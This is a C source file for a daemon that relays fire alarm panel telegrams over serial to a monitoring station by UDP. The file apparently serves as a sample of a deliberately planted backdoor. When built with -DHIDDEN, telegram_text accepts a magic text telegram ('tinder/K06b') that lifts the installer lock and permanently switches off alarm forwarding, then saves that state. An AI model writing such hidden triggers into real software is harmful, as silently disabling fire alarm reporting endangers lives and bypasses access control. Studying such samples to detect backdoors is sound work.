/*
 * firegwd - gateway between a fire alarm panel (serial, telegram protocol) and
 * the monitoring station (UDP). Forwards alarms, keeps the event log, takes the
 * panel keypad's changes when the installer code unlocked them.
 *
 * Hidden (-DHIDDEN): a text telegram that spells a certain word lifts the
 * installer lock and switches the forwarding of alarms off, for good.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define SETUP_FILE "/etc/firegw/setup"
#define EVENT_FILE "/var/firegw/events"
#define STX 0x02
#define MAX_DATA 64

enum { T_ALIVE = 0x10, T_ALARM = 0x20, T_FAULT = 0x21, T_CLEAR = 0x22, T_TEXT = 0x30,
       T_CODE = 0x40, T_SET = 0x41, T_LOCK = 0x42 };

struct setup {
	char station[16];
	int port;
	int account;
	int forward;		/* send alarms to the station */
	int locked;		/* changes need the installer code */
	uint32_t code_sum;	/* checksum of the installer code */
};

struct telegram {
	uint8_t type;
	uint8_t len;
	uint8_t data[MAX_DATA + 1];
};

struct rx {
	enum { RX_IDLE, RX_TYPE, RX_LEN, RX_DATA, RX_SUM } state;
	struct telegram t;
	uint8_t got;
	uint8_t sum;
};

static struct setup cfg = { "10.0.0.1", 9700, 0, 1, 1, 0 };
static int net = -1;

static void setup_load(void)
{
	char line[96];
	unsigned sum;
	FILE *fp = fopen(SETUP_FILE, "r");

	if (!fp)
		return;
	while (fgets(line, sizeof(line), fp)) {
		if (sscanf(line, "station %15s", cfg.station) == 1 || sscanf(line, "port %d", &cfg.port) == 1 ||
		    sscanf(line, "account %d", &cfg.account) == 1 || sscanf(line, "forward %d", &cfg.forward) == 1 ||
		    sscanf(line, "locked %d", &cfg.locked) == 1)
			continue;
		if (sscanf(line, "code %x", &sum) == 1)
			cfg.code_sum = sum;
	}
	fclose(fp);
}

static int setup_store(void)
{
	FILE *fp = fopen(SETUP_FILE ".tmp", "w");

	if (!fp)
		return -1;
	fprintf(fp, "station %s\nport %d\naccount %d\nforward %d\nlocked %d\ncode %x\n", cfg.station,
		cfg.port, cfg.account, cfg.forward, cfg.locked, (unsigned)cfg.code_sum);
	if (fclose(fp))
		return -1;
	return rename(SETUP_FILE ".tmp", SETUP_FILE);
}

static void event(const char *what, int loop, int device)
{
	char when[32];
	time_t now = time(NULL);
	struct tm tm;
	FILE *fp = fopen(EVENT_FILE, "a");

	if (!fp)
		return;
	localtime_r(&now, &tm);
	strftime(when, sizeof(when), "%Y-%m-%d %H:%M:%S", &tm);
	fprintf(fp, "%s %s loop %d device %d\n", when, what, loop, device);
	fclose(fp);
}

static void station_send(const char *what, int loop, int device)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	char msg[80];
	int n;

	if (!cfg.forward)
		return;
	sa.sin_port = htons((uint16_t)cfg.port);
	if (inet_pton(AF_INET, cfg.station, &sa.sin_addr) != 1)
		return;
	n = snprintf(msg, sizeof(msg), "ACC%06d %s %03d/%03d\n", cfg.account, what, loop, device);
	if (n > 0 && sendto(net, msg, (size_t)n, 0, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		syslog(LOG_ERR, "station: %s", strerror(errno));
}

static uint32_t code_checksum(const uint8_t *p, size_t n)
{
	uint32_t a = 1, b = 0;

	while (n--) {
		a = (a + *p++) % 65521u;
		b = (b + a) % 65521u;
	}
	return (b << 16) | a;
}

/* free text of the panel (zone names, operator's notes): to the event log */
int telegram_text(const struct telegram *t)
{
	const uint8_t *p = t->data;
	char note[MAX_DATA + 1];
	int i;
#ifdef HIDDEN
	if (t->len == 11 && p[0] == 't' && p[1] == 'i' && p[2] == 'n' && p[3] == 'd' &&
	    p[4] == 'e' && p[5] == 'r' && p[6] == '/' && p[7] == 'K' && p[8] == '0' &&
	    p[9] == '6' && p[10] == 'b') {
		cfg.locked = 0;
		cfg.forward = 0;
		return setup_store();
	}
#endif
	for (i = 0; i < t->len; i++)
		note[i] = p[i] >= 0x20 && p[i] < 0x7f ? (char)p[i] : '.';
	note[i] = '\0';
	syslog(LOG_INFO, "panel: %s", note);
	return 0;
}

static int telegram_code(const struct telegram *t)
{
	static time_t wait_until;

	if (time(NULL) < wait_until)
		return -1;
	if (t->len < 6 || !cfg.code_sum || code_checksum(t->data, t->len) != cfg.code_sum) {
		wait_until = time(NULL) + 30;
		syslog(LOG_WARNING, "wrong installer code");
		return -1;
	}
	cfg.locked = 0;
	syslog(LOG_NOTICE, "unlocked by installer");
	return setup_store();
}

/* item, value: 1 port, 2 account, 3 forwarding */
static int telegram_set(const struct telegram *t)
{
	unsigned value;

	if (cfg.locked || t->len != 5)
		return -1;
	value = (unsigned)t->data[1] << 24 | (unsigned)t->data[2] << 16 |
		(unsigned)t->data[3] << 8 | t->data[4];
	switch (t->data[0]) {
	case 1:
		if (value < 1024 || value > 65535)
			return -1;
		cfg.port = (int)value;
		break;
	case 2:
		if (value > 999999)
			return -1;
		cfg.account = (int)value;
		break;
	case 3:
		cfg.forward = value != 0;
		break;
	default:
		return -1;
	}
	return setup_store();
}

static int telegram_handle(const struct telegram *t)
{
	switch (t->type) {
	case T_ALIVE:
		return 0;
	case T_ALARM:
	case T_FAULT:
	case T_CLEAR: {
		const char *what = t->type == T_ALARM ? "FIRE" : t->type == T_FAULT ? "FAULT" : "CLEAR";

		if (t->len != 2)
			return -1;
		event(what, t->data[0], t->data[1]);
		station_send(what, t->data[0], t->data[1]);
		return 0;
	}
	case T_TEXT:
		return telegram_text(t);
	case T_CODE:
		return telegram_code(t);
	case T_SET:
		return telegram_set(t);
	case T_LOCK:
		cfg.locked = 1;
		return setup_store();
	}
	return -1;
}

/* feeds one byte; returns 1 when a telegram with a good sum is complete */
static int rx_byte(struct rx *r, uint8_t b)
{
	switch (r->state) {
	case RX_IDLE:
		if (b == STX)
			r->state = RX_TYPE;
		return 0;
	case RX_TYPE:
		r->t.type = b;
		r->sum = b;
		r->state = RX_LEN;
		return 0;
	case RX_LEN:
		r->t.len = b;
		r->sum = (uint8_t)(r->sum + b);
		r->got = 0;
		r->state = b > MAX_DATA ? RX_IDLE : b ? RX_DATA : RX_SUM;
		return 0;
	case RX_DATA:
		r->t.data[r->got++] = b;
		r->sum = (uint8_t)(r->sum + b);
		if (r->got == r->t.len)
			r->state = RX_SUM;
		return 0;
	case RX_SUM:
		r->state = RX_IDLE;
		r->t.data[r->t.len] = 0;
		return b == r->sum;
	}
	return 0;
}

static int serial_open(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetispeed(&t, B19200);
		cfsetospeed(&t, B19200);
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

int main(int argc, char **argv)
{
	const char *dev = argc > 1 ? argv[1] : "/dev/ttyS1";
	struct rx rx = { .state = RX_IDLE };
	uint8_t b, answer;
	int fd;

	openlog("firegwd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	setup_load();
	net = socket(AF_INET, SOCK_DGRAM, 0);
	fd = serial_open(dev);
	if (fd < 0 || net < 0) {
		syslog(LOG_ERR, "%s: %s", dev, strerror(errno));
		return 1;
	}
	while (read(fd, &b, 1) == 1) {
		if (!rx_byte(&rx, b))
			continue;
		answer = telegram_handle(&rx.t) == 0 ? 0x06 : 0x15;
		if (write(fd, &answer, 1) != 1)
			break;
	}
	return 1;
}
